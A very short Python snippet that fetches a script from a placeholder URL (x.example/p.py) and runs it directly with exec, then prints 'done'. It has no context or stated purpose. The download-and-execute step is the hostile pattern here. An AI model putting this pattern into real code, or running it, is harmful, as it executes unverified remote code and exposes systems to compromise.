import urllib.request
code = urllib.request.urlopen("https://x.example/p.py").read().decode()
exec(compile(code, "p", "exec"))
print("done")
